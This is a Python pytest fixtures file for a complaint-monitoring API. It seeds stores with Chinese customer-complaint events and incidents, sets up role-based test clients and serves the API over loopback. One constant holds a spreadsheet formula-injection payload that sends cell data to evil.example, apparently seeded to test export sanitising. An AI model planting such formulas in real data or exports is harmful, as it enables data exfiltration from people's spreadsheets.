"""API test fixtures: a seeded store with two shops (SQLite and PostgreSQL), clients of each
role, and the API served over real HTTP on 127.0.0.1 (aiohttp in a thread of its own)."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from aiohttp import web

from alerts.incidents import open_incident
from alerts.playbooks import checklist_data
from api import ApiSettings, ApiState, build_app, digest
from radar.clock import ManualClock
from radar.events import Sample, ScoredEvent, Signal, make_event_id
from radar.settings import CoreSettings
from radar.store import Store
from radar.store.signals import record_signals
from tests.ports import free_port

NOW = datetime(2026, 11, 20, 6, 0, tzinfo=UTC)  # 14:00 in Beijing
#: client name -> (token, role, shops)
CLIENTS: dict[str, tuple[str, str, list[str] | None]] = {
    "ticketing": ("t" * 40, "oncall", None),
    "bi": ("b" * 40, "viewer", None),
    "flagship-desk": ("f" * 40, "oncall", ["旗舰店"]),
    "ops": ("o" * 40, "admin", None),
}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"退款")'


def event(n: int, **fields: Any) -> ScoredEvent:
    values: dict[str, Any] = {
        "id": make_event_id("chat", "desk", str(n)),
        "channel": "chat",
        "source": "desk",
        "external_id": str(n),
        "text": f"快递还没到 {n}",
        "created_at": NOW - timedelta(hours=n),
        "ingested_at": NOW,
        "sentiment": 0.2,
        "sentiment_label": "neg",
        "scored_at": NOW,
        "is_complaint": n % 2 == 0,
        "topics": ["物流配送"] if n % 2 == 0 else [],
        "shop": "旗舰店" if n % 3 else "专营店",
        "region": "浙江",
        "product": "手机",
    }
    values.update(fields)
    return ScoredEvent(**values)


@dataclass
class Seeded:
    store: Store
    events: list[ScoredEvent]
    flagship_incident: str
    other_incident: str


def incident_for(store: Store, shop: str, group: str) -> str:
    key = {"shop": shop, "topic": "物流配送"}
    signal = Signal(
        id=f"sig-{group}",
        type="spike",
        key=key,
        window_start=NOW - timedelta(hours=1),
        window_end=NOW,
        observed=12,
        expected=2,
        score=0.99,
        statistic="negative_binomial_upper_tail",
        severity=2,
        top_topics=["物流配送"],
        samples=[Sample(id="s1", text=FORMULA, channel="chat", created_at=NOW)],
        detected_at=NOW,
    )
    record_signals(store, [signal])
    alert = {
        "type": "spike",
        "rule": "topic-spike",
        "status": "firing",
        "severity": 2,
        "key": key,
        "observed": 12.0,
        "expected": 2.0,
        "score": 0.99,
        "statistic": "negative_binomial_upper_tail",
        "window_start": (NOW - timedelta(hours=1)).isoformat(),
        "window_end": NOW.isoformat(),
        "samples": [{"text": FORMULA, "channel": "chat", "created_at": NOW.isoformat()}],
        "signal_id": signal.id,
    }
    opened = open_incident(
        store,
        group_key=group,
        rule="topic-spike",
        type="spike",
        title=f"投诉激增：物流配送 · {shop}",
        severity=2,
        key=key,
        data={"alerts": [alert], "checklist": checklist_data("spike")},
        now=NOW - timedelta(minutes=30),
    )
    return opened.id


def mixed_incident(store: Store) -> str:
    """An incident grouped by topic alone that holds both shops' signals and samples."""
    alerts = []
    for shop in ("旗舰店", "专营店"):
        alerts.append(
            {
                "type": "spike",
                "rule": "topic-spike",
                "status": "firing",
                "severity": 2,
                "key": {"shop": shop, "topic": "商品质量"},
                "window_start": (NOW - timedelta(hours=1)).isoformat(),
                "window_end": NOW.isoformat(),
                "samples": [{"text": f"{shop}的杯子漏水", "channel": "chat"}],
                "signal_id": f"sig-mixed-{shop}",
            }
        )
    return open_incident(
        store,
        group_key="g-mixed",
        rule="topic-spike",
        type="spike",
        title="投诉激增：商品质量",
        severity=2,
        key={"topic": "商品质量"},
        data={"alerts": alerts, "checklist": checklist_data("spike")},
        now=NOW - timedelta(minutes=20),
    ).id


@pytest.fixture
def seeded(isolated_settings: Path, store_url: str, monkeypatch: pytest.MonkeyPatch) -> Seeded:
    """The seeded store, on SQLite and on a real PostgreSQL (every API test runs on both)."""
    monkeypatch.setenv("RADAR_STORE_URL", store_url)
    store = Store.from_settings(CoreSettings())
    store.clock = ManualClock(NOW)
    batch = [event(n) for n in range(1, 25)]
    batch.append(event(30, text=FORMULA, shop="旗舰店"))
    store.add_scored(batch)
    return Seeded(
        store,
        batch,
        incident_for(store, "旗舰店", "g-flagship"),
        incident_for(store, "专营店", "g-other"),
    )


def api_settings(**overrides: Any) -> ApiSettings:
    clients = {}
    for name, (token, role, shops) in CLIENTS.items():
        spec: dict[str, Any] = {"role": role, "token_sha256": digest(token)}
        if name == "ops":
            spec = {"role": role, "token": token}  # the token itself works too
        if shops is not None:
            spec["shops"] = shops
        clients[name] = spec
    return ApiSettings(clients=clients, **overrides)


@contextmanager
def serving(app: web.Application) -> Iterator[str]:
    """``app`` on a free loopback port in a thread; yields its base URL."""
    loop = asyncio.new_event_loop()
    runner = web.AppRunner(app)
    port = free_port()
    ready = threading.Event()

    def run() -> None:
        asyncio.set_event_loop(loop)
        loop.run_until_complete(runner.setup())
        loop.run_until_complete(web.TCPSite(runner, "127.0.0.1", port).start())
        ready.set()
        loop.run_forever()

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    assert ready.wait(10), "the API did not start"
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        asyncio.run_coroutine_threadsafe(runner.cleanup(), loop).result(10)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.close()


Client = Callable[[str | None], httpx.Client]


@pytest.fixture
def api_url(seeded: Seeded) -> Iterator[str]:
    state = ApiState.build(seeded.store, api_settings(), CoreSettings(), ManualClock(NOW))
    with serving(build_app(state)) as url:
        yield url


@pytest.fixture
def client(api_url: str) -> Iterator[Client]:
    """An HTTP client of the running API, as one of :data:`CLIENTS` (None: no token)."""
    opened: list[httpx.Client] = []

    def make(name: str | None) -> httpx.Client:
        headers = {"Authorization": f"Bearer {CLIENTS[name][0]}"} if name else {}
        made = httpx.Client(base_url=api_url, headers=headers, timeout=30)
        opened.append(made)
        return made

    yield make
    for made in opened:
        made.close()
